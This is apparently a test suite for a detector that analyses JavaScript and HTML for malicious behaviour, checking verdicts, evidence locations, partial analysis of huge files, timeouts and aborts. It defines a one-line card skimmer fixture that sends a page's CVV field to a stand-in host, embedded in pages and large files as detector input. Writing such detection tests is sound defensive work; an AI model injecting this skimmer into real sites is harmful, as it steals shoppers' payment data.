import assert from 'node:assert/strict';
import { analysis as analysisSchema, type Analysis } from '../../core/schema/index.ts';
import { createAnalyzer, type Analyzer } from '../../analyzer/index.ts';
import { featureNames } from '../../analyzer/features.ts';

const megabyte = 1024 * 1024;
const skimmer = 'fetch("https://a.example/?" + document.querySelector("#cvv").value);';

describe('createAnalyzer', () => {
  let analyzer: Analyzer;
  before(async () => {
    analyzer = await createAnalyzer({ workers: 2 });
  });
  after(() => analyzer.close());

  async function analyse(path: string, content: string | Uint8Array): Promise<Analysis> {
    const { analysis } = await analyzer.analyze({ path, bytes: Buffer.from(content) });
    return analysisSchema.parse(analysis);
  }

  it('analyses a script', async () => {
    const { analysis, features } = await analyzer.analyze({ path: 'a.js', bytes: Buffer.from(skimmer) });
    assert.deepEqual(analysisSchema.parse(analysis).behaviour.fields, ['#cvv']);
    assert.deepEqual([analysis.path, analysis.media, analysis.bytes], ['a.js', 'js', skimmer.length]);
    assert.equal(features?.length, featureNames.length);
    assert.ok(features.at(featureNames.indexOf('reasons@1/gravest'))! >= 3);
  });

  const inputs: [
    behaviour: string,
    path: string,
    content: string | Uint8Array,
    verdict: string,
    reason?: string,
  ][] = [
    ['an empty file', 'a.js', '', 'benign'],
    ['white space', 'a.js', ' \n', 'benign'],
    ['a page without scripts', 'a.html', '<!doctype html><p>', 'benign'],
    ['binary data', 'a.bin', Uint8Array.of(0, 1, 2, 3, 4), 'unanalysed', 'binary'],
    ['a style sheet', 'a.css', 'p { color: red }', 'unanalysed', 'not-script'],
  ];
  for (const [behaviour, path, content, verdict, reason] of inputs) {
    it(`has an answer for ${behaviour}`, async () => {
      const found = await analyse(path, content);
      assert.deepEqual([found.verdict, found.reason], [verdict, reason]);
    });
  }

  it('gives a page the worst of its scripts, and places in the page', async () => {
    const page = await analyse('a.html', `<p onclick="a()">\n<script>\n  ${skimmer}</script>`);
    assert.equal(page.media, 'html');
    assert.deepEqual(
      page.scripts!.map((script) => script.path),
      ['a.html#1:handler', 'a.html#2:script'],
    );
    assert.deepEqual(page.behaviour.hosts, ['a.example']);
    assert.equal(
      page.scores!.integrity,
      Math.min(...page.scripts!.map((script) => script.scores!.integrity)),
    );
    assert.ok(page.evidence.length > 0);
    assert.ok(page.evidence.every(({ location }) => location.line === 3));
  });

  it('joins analyses that run at the same time, each with its own answer', async () => {
    const hosts = ['a.example', 'b.example', 'c.example'];
    const found = await Promise.all(hosts.map((host) => analyse(`${host}.js`, `fetch("https://${host}/")`)));
    assert.deepEqual(
      found.map((one) => one.behaviour.hosts),
      hosts.map((host) => [host]),
    );
  });

  it('names program, features and model in its version', () => {
    assert.match(analyzer.version, /^\d+\.\d+\.\d+\+features\.[0-9a-f]{12}\+model\..+/);
  });

  it('analyses a 5 MB bundle whole', async function () {
    this.timeout(120_000);
    const part = `(function(a,b){function c(d){return d.e&&b[d.f]||a(d.g,"h",12)}b.i=c;return c})(j,k);\n`;
    const found = await analyse('bundle.js', part.repeat(Math.ceil((5 * megabyte) / part.length)));
    assert.deepEqual([found.partial, found.parse.mode], [false, 'script']);
  });

  it('analyses parts of a 50 MB file and says so', async function () {
    this.timeout(120_000);
    const filler = 'a("b", 1);\n'.repeat((25 * megabyte) / 11);
    const found = await analyse('huge.js', `${filler}${filler}${skimmer}`);
    assert.deepEqual([found.partial, found.structureHash], [true, null]);
    assert.deepEqual(found.behaviour.fields, ['#cvv']);
    assert.ok(found.evidence.some(({ location }) => location.line > 4_000_000));
  });

  it('falls back to tokens when time runs out, and says so', async () => {
    const hasty = await createAnalyzer({ workers: 1, timeoutMs: 1 });
    const { analysis } = await hasty.analyze({ path: 'a.js', bytes: Buffer.from('a();'.repeat(100_000)) });
    await hasty.close();
    assert.equal(analysisSchema.parse(analysis).partial, true);
    assert.ok(analysis.parse.mode === 'none');
  });

  it('rejects only when told to stop', async () => {
    const controller = new AbortController();
    const running = analyzer.analyze({ path: 'a.js', bytes: Buffer.from('a()') }, controller.signal);
    controller.abort(new Error('enough'));
    await assert.rejects(running, /enough/);
  });

  it('refuses a model that does not exist', async () => {
    await assert.rejects(createAnalyzer({ modelPath: '/nowhere/detector.onnx' }), {
      code: 'SW_MODEL_MISSING',
    });
  });
});
